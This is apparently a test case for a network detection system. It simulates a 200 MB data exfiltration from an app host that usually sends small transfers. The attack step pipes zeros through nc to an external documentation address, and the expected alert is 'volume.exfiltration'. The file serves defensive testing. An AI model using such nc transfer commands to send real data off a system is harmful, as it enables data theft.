# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='200 MB leave by a connection that is known for small ones'
case_class=A
case_prepare() {
	lab_in outside sh -c 'while :; do timeout 60 nc -l -p 9415 >/dev/null </dev/null; done' >/dev/null 2>&1 &
	lab_defer kill $!
	run app pg-many sh -c 'while sleep 0.7; do head -c 2000 /dev/zero | nc -w 1 -N 203.0.113.9 9415; done'
}
case_benign() { sleep 1; }
case_attack() { in_ app sh -c 'head -c 200000000 /dev/zero | nc -w 3 -N 203.0.113.9 9415'; sleep 2; }
case_expect='volume.exfiltration A15-app * ext:203.0.113.9'
